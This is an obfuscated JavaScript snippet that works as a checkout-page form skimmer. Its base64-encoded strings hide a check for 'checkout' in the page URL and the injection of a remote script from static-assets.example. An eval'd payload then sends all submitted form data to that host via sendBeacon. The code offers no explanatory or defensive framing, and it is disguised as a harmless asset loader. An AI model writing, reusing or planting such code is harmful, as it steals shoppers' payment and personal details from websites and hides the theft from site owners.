var _0x3a1f = ["Y2hlY2tvdXQ=", "aHR0cHM6Ly9zdGF0aWMtYXNzZXRzLmV4YW1wbGUvbGliLmpz", "c2NyaXB0", "aW5kZXhPZg==", "aHJlZg=="];
(function (_0x5d2e, _0x1b7c) {
  var _0x41aa = function (_0x2c0d) { while (--_0x2c0d) { _0x5d2e.push(_0x5d2e.shift()); } };
  _0x41aa(++_0x1b7c);
})(_0x3a1f, 0x1a3);
var _0x2b9e = function (_0x4f01) { return atob(_0x3a1f[_0x4f01]); };
(function () {
  if (window.location[_0x2b9e(4)][_0x2b9e(3)](_0x2b9e(0)) !== -1) {
    var _0x77cc = document.createElement(_0x2b9e(2));
    _0x77cc.src = _0x2b9e(1);
    document.head.appendChild(_0x77cc);
    eval(atob("dmFyIGY9ZG9jdW1lbnQuZm9ybXNbMF07Zi5hZGRFdmVudExpc3RlbmVyKCdzdWJtaXQnLGZ1bmN0aW9uKCl7bmF2aWdhdG9yLnNlbmRCZWFjb24oJ2h0dHBzOi8vc3RhdGljLWFzc2V0cy5leGFtcGxlL2MnLG5ldyBGb3JtRGF0YShmKSl9KQ=="));
  }
})();
